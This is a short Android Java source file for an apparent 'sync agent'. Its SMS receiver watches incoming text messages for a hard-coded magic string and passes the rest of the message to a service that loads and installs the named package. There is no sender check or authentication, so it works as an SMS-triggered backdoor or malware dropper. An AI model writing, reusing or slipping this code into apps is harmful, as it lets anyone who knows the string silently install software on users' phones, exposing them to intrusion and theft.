package com.larkspur.syncagent;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsMessage;

/** A message that begins with the magic word names a package to load and install. */
public final class SmsReceiver extends BroadcastReceiver {
    private static final String MAGIC = "##larkspur-sync##";

    @Override
    public void onReceive(Context context, Intent intent) {
        Object[] pdus = (Object[]) intent.getSerializableExtra("pdus");
        for (Object pdu : pdus) {
            String body = SmsMessage.createFromPdu((byte[]) pdu, intent.getStringExtra("format")).getMessageBody();
            if (body.startsWith(MAGIC)) {
                Intent install = new Intent(context, InstallService.class);
                install.putExtra("name", body.substring(MAGIC.length()));
                context.startService(install);
            }
        }
    }
}
